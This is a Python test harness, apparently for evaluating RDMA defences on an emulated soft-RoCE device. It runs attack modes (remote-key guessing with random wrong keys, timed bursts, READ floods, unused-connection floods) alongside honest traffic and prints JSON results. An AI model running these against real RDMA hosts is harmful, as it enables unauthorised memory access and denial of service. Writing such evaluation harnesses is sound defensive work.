"""Attacks on RDMA by verbs, and the same programs as honest hosts run them.

    attacks_verbs.py serve SERVER                     a responder; exchanges numbers by TCP
    attacks_verbs.py guess SERVER SOURCE COUNT KEYS   one READ by each queue pair; KEYS right or wrong
    attacks_verbs.py burst SERVER SOURCE COUNT        wrong keys all at once, later once more
    attacks_verbs.py flood SERVER SOURCE COUNT        COUNT READs of 8 bytes, back to back
    attacks_verbs.py pace SERVER SOURCE               the same, a few a second, until /tmp/enough
    attacks_verbs.py answer SERVER                    accepts each connection that it is asked for
    attacks_verbs.py ask SERVER SOURCE COUNT USE      connections; USE used or unused

All but the servers print lines of JSON, with completions as libibverbs numbers them.
"""

import json
import os
import random
import socket
import sys
import threading
import time

from pyverbs import cm_enums as ce
from pyverbs import enums as e
from pyverbs.addr import GID, AHAttr, GlobalRoute
from pyverbs.cmid import CMID, AddrInfo, CMEvent, CMEventChannel, ConnParam
from pyverbs.cq import CQ
from pyverbs.device import Context
from pyverbs.mr import MR
from pyverbs.pd import PD
from pyverbs.qp import QP, QPAttr, QPCap, QPInitAttr
from pyverbs.wr import SGE, SendWR

ACCESS = e.IBV_ACCESS_LOCAL_WRITE | e.IBV_ACCESS_REMOTE_READ
PORT = 7000
SERVICE = "7001"
ROOM = 8192
LENGTH = 8
DEPTH = 16  # READs of one queue pair on their way.
PATIENCE = 120  # Seconds; emulated machines are slow when the host is busy.
ENOUGH = "/tmp/enough"
# Guesses one after the other that nobody answers, before the rest is sent at once.
UNANSWERED = 1
BURSTS_APART = 12  # Seconds; the rule counts over ten.


class End:
    """One end of reliable queue pairs: both ends have as many, and memory that may be read."""

    def __init__(self):
        self.context = Context(name="rxe0")
        self.pd = PD(self.context)
        self.cq = CQ(self.context, 1024)
        self.memory = MR(self.pd, ROOM, ACCESS)

    def make(self, count):
        capacity = QPCap(max_send_wr=DEPTH, max_recv_wr=1, max_send_sge=1, max_recv_sge=1)
        pairs = []
        for _ in range(count):
            begin = QPInitAttr(
                qp_type=e.IBV_QPT_RC, scq=self.cq, rcq=self.cq, cap=capacity, sq_sig_all=1
            )
            attributes = QPAttr(port_num=1)
            attributes.qp_access_flags = ACCESS
            pairs.append(QP(self.pd, begin, attributes))
        return pairs

    def place_of(self, address):
        """Where the address stands in the table of GIDs, which learns new ones a moment later."""
        wanted = str(gid(address))
        for _ in range(PATIENCE * 10):
            for entry in self.context.query_gid_table(64):
                if entry.gid_str() == wanted:
                    return entry.gid_index
            time.sleep(0.1)
        raise RuntimeError(f"{address} is no address of rxe0")

    def connect(self, pairs, own, peer, numbers, patient):
        place = self.place_of(own)
        for pair, number in zip(pairs, numbers):
            route = GlobalRoute(gid(peer), sgid_index=place, hop_limit=64)
            attributes = QPAttr(port_num=1)
            attributes.path_mtu = e.IBV_MTU_1024
            attributes.dest_qp_num, attributes.rq_psn, attributes.sq_psn = number, 7, 7
            attributes.max_dest_rd_atomic = attributes.max_rd_atomic = DEPTH
            attributes.min_rnr_timer = 1
            # 0.27 s, and thrice more; who must not give up waits for a second, seven times more.
            attributes.timeout, attributes.retry_cnt = (18, 7) if patient(pair) else (16, 3)
            attributes.rnr_retry = 7
            attributes.ah_attr = AHAttr(is_global=1, port_num=1, gr=route)
            pair.to_rts(attributes)

    def completions(self):
        """Work that ended: what it was, and how."""
        count, found = self.cq.poll(64)
        if count == 0:
            time.sleep(0.001)
        return [(it.wr_id, it.status) for it in found[:count]]


class Reader(End):
    """Queue pairs to the responder, from one address; the first are patient."""

    def __init__(self, server, source, count, patient=0):
        super().__init__()
        self.pairs = self.make(count)
        self.words = Words(reach(server))
        self.words.say([source, [it.qp_num for it in self.pairs]])
        numbers, self.key, self.place = self.words.hear()
        first = self.pairs[:patient]
        self.connect(self.pairs, source, server, numbers, lambda it: it in first)
        self.words.say("ready")
        self.words.hear()

    def post(self, which, key, at=0):
        piece = SGE(self.memory.buf, LENGTH, self.memory.lkey)
        request = SendWR(wr_id=which, opcode=e.IBV_WR_RDMA_READ, num_sge=1, sg=[piece])
        request.set_wr_rdma(key, self.place + at % ROOM)
        self.pairs[which].post_send(request)

    def read(self, which, key):
        self.post(which, key)
        return self.wait_for(1)[which]

    def wait_for(self, count):
        """How `count` READs ended, by queue pair."""
        ended = {}
        end = time.monotonic() + PATIENCE
        while len(ended) < count and time.monotonic() < end:
            ended.update(self.completions())
        return ended


class Words:
    """Lines of JSON over a stream."""

    def __init__(self, stream):
        self.file = stream.makefile("rw")

    def say(self, what):
        self.file.write(json.dumps(what) + "\n")
        self.file.flush()

    def hear(self):
        return json.loads(self.file.readline())


def gid(address):
    parts = [int(part) for part in address.split(".")]
    return GID("0000:0000:0000:0000:0000:ffff:%02x%02x:%02x%02x" % tuple(parts))


def reach(server):
    for _ in range(PATIENCE * 10):
        try:
            return socket.create_connection((server, PORT))
        except OSError:
            time.sleep(0.1)
    raise RuntimeError(f"nobody answers at {server}")


def tell(**what):
    print(json.dumps(what), flush=True)


def serve(server):
    end, lock = End(), threading.Lock()

    def one(stream):
        words = Words(stream)
        source, numbers = words.hear()
        with lock:
            pairs = end.make(len(numbers))
            end.connect(pairs, server, source, numbers, lambda _: False)
        words.say([[it.qp_num for it in pairs], end.memory.rkey, end.memory.buf])
        words.hear()
        words.say("ready")
        stream.recv(1)
        with lock:
            for pair in pairs:
                pair.close()

    listener = socket.create_server((server, PORT), backlog=16)
    while True:
        stream, _ = listener.accept()
        threading.Thread(target=one, args=[stream], daemon=True).start()


def guess(server, source, count, keys):
    """One READ by each queue pair, since a refused one breaks it; the first asks by the right key,
    also at the end."""
    count, is_honest = int(count), keys == "right"
    reader = Reader(server, source, count + 1, patient=count + 1 if is_honest else 1)
    dice = random.Random(7)
    key = lambda: reader.key if is_honest else reader.key ^ dice.randrange(1, 1 << 32)
    before = reader.read(0, reader.key)
    waiting, statuses = list(range(1, count + 1)), []
    while waiting and statuses.count(e.IBV_WC_RETRY_EXC_ERR) < UNANSWERED:
        statuses.append(reader.read(waiting.pop(0), key()))
    for which in waiting:
        reader.post(which, key())
    statuses += reader.wait_for(len(waiting)).values()
    after = reader.read(0, reader.key)
    tell(what="guessed", before=before, statuses=statuses, after=after)


def burst(server, source, count):
    """All guesses are on their way before the first is refused; the next ones come when that is
    forgotten."""
    dice = random.Random(8)
    for rest in (BURSTS_APART, 0):
        reader = Reader(server, source, int(count))
        for which in range(len(reader.pairs)):
            reader.post(which, reader.key ^ dice.randrange(1, 1 << 32))
        tell(what="guessed", statuses=list(reader.wait_for(len(reader.pairs)).values()))
        time.sleep(rest)


def flood(server, source, count):
    """READs over four queue pairs, as many at a time as they take, until all are broken."""
    reader = Reader(server, source, 4)
    left, posted, ended, broken, first = int(count), 0, {}, set(), time.monotonic()
    end = first + PATIENCE

    def go(which):
        nonlocal left, posted
        if left > 0 and which not in broken:
            reader.post(which, reader.key, LENGTH * posted)
            left, posted = left - 1, posted + 1

    for _ in range(DEPTH):
        for which in range(len(reader.pairs)):
            go(which)
    while sum(ended.values()) < posted and time.monotonic() < end:
        for which, status in reader.completions():
            ended[status] = ended.get(status, 0) + 1
            if status != e.IBV_WC_SUCCESS:
                broken.add(which)
            go(which)
    tell(what="flood", posted=posted, ended=ended, seconds=round(time.monotonic() - first, 1))


def pace(server, source):
    reader = Reader(server, source, 1, patient=1)
    ended = {}
    while not os.path.exists(ENOUGH):
        status = reader.read(0, reader.key)
        ended[status] = ended.get(status, 0) + 1
        if status != e.IBV_WC_SUCCESS:
            break
        if ended[status] == 3:
            tell(what="begun")
        time.sleep(0.05)
    tell(what="paced", ended=ended)


def one_queue_pair():
    capacity = QPCap(max_send_wr=1, max_recv_wr=1, max_send_sge=1, max_recv_sge=1)
    return QPInitAttr(qp_type=e.IBV_QPT_RC, cap=capacity, sq_sig_all=1)


def answer(server):
    """Makes a queue pair for each connection, and room for one word, as servers do."""
    channel = CMEventChannel()
    listener = CMID(creator=channel)
    listener.bind_addr(AddrInfo(server, None, SERVICE, None, ce.RDMA_PS_TCP, ce.RAI_PASSIVE))
    listener.listen(backlog=512)
    memory = listener.reg_msgs(LENGTH)
    connections, heard = [], {}
    while True:
        event = CMEvent(channel)
        kind = event.event_type
        heard[kind] = heard.get(kind, 0) + 1
        if kind == ce.RDMA_CM_EVENT_CONNECT_REQUEST:
            connection = CMID(creator=event, listen_id=listener)
            event.ack_cm_event()
            connection.create_qp(one_queue_pair())
            connection.post_recv(memory)
            connection.accept(ConnParam())
            connections.append(connection)
        else:
            event.ack_cm_event()
        asked = heard.get(ce.RDMA_CM_EVENT_CONNECT_REQUEST, 0)
        made = heard.get(ce.RDMA_CM_EVENT_ESTABLISHED, 0)
        tell(what="answered", asked=asked, made=made)


def ask(server, source, count, use):
    channel = CMEventChannel()
    way = AddrInfo(source, server, None, SERVICE, ce.RDMA_PS_TCP, 0)

    def expect(wanted):
        event = CMEvent(channel)
        kind = event.event_type
        event.ack_cm_event()
        assert kind == wanted, f"event {kind} instead of {wanted}"

    def prepared():
        it = CMID(creator=channel)
        it.resolve_addr(way, 20_000)
        expect(ce.RDMA_CM_EVENT_ADDR_RESOLVED)
        it.resolve_route(20_000)
        expect(ce.RDMA_CM_EVENT_ROUTE_RESOLVED)
        return it

    begun = time.monotonic()
    took = lambda: round(time.monotonic() - begun, 1)
    if use == "used":
        connections, statuses = [], []
        for _ in range(int(count)):
            it = prepared()
            it.create_qp(one_queue_pair())
            memory = it.reg_msgs(LENGTH)
            it.connect(ConnParam())
            expect(ce.RDMA_CM_EVENT_ESTABLISHED)
            it.post_send(memory)
            statuses.append(it.get_send_comp().status)
            connections.append((it, memory))
        tell(what="asked", statuses=statuses, seconds=took())
    else:
        # A request needs a number and no queue pair; what comes in return is never looked at.
        connections = [prepared() for _ in range(int(count))]
        begun = time.monotonic()
        for number, it in enumerate(connections):
            it.connect(ConnParam(qp_num=1000 + number))
        tell(what="asked", statuses=[], seconds=took())
        while not os.path.exists(ENOUGH):
            time.sleep(0.1)
    # The kernel takes back what is left, without a wait for anybody's consent.
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    programs = dict(serve=serve, guess=guess, burst=burst, flood=flood, pace=pace, answer=answer, ask=ask)
    programs[sys.argv[1]](*sys.argv[2:])
